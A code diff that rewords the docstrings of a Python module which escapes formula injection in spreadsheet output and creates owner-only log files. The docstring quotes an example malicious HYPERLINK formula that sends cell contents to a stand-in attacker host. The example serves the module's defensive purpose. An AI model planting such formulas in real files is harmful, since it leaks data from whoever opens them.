@@ -1,12 +1,12 @@
 """Formula-injection escaping for spreadsheet output, and owner-only file creation.
 
 Spreadsheet programs (Excel, LibreOffice Calc, Google Sheets) evaluate a cell that
-starts with ``=``, ``+``, ``-`` or ``@`` as a formula, so a name such as
-``=HYPERLINK("http://evil.example/?"&A2,"Click")`` copied from the input or from an
-API message into a report would run when a person opens it. A leading tab or
-carriage return is treated the same way because some programs strip it and then
-evaluate what follows. The rule applies to every text value that came from outside,
-whatever the rest of the text is, which is the OWASP "CSV injection" advice:
+starts with ``=``, ``+``, ``-`` or ``@`` as a formula. A name such as
+``=HYPERLINK("http://evil.example/?"&A2,"Click")``, copied from the input or from an
+API message into a report, would run when a person opens the report. A leading tab
+or carriage return counts too, because some programs strip it and then evaluate
+what follows. Following the OWASP "CSV injection" advice, the rule applies to every
+text value that came from outside, whatever the rest of the text is:
 
 * XLSX: such a cell is written as a string (never a formula) with the ``quotePrefix``
   style, so Excel shows the text unchanged (``+1 555 0100`` still reads
@@ -72,8 +72,8 @@ def open_owner_only(path: Path, *, encoding: str = "utf-8") -> TextIO:
     """Open ``path`` for appending text, creating it with mode 0600.
 
     An existing file that other users can read is narrowed to 0600 first, because
-    log files may contain email addresses. ``O_NOFOLLOW`` rejects a symbolic link
-    at ``path`` (OSError), so nobody can redirect the output to another file.
+    log files may contain email addresses. ``O_NOFOLLOW`` makes a symbolic link at
+    ``path`` raise OSError, so a planted link cannot redirect the output.
     """
     flags = os.O_WRONLY | os.O_CREAT | os.O_APPEND | getattr(os, "O_NOFOLLOW", 0)
     descriptor = os.open(path, flags, OWNER_ONLY_FILE_MODE)
@@ -130,7 +130,7 @@ def _fsync_file(path: Path) -> None:
 
 def _fsync_dir(path: Path) -> None:
     # Makes the rename itself durable. Some file systems refuse to open or sync a
-    # folder; the rename has happened by then, so that is not an error.
+    # folder. The rename has happened by then, so that is not an error.
     with contextlib.suppress(OSError):
         descriptor = os.open(path, os.O_RDONLY)
         try:
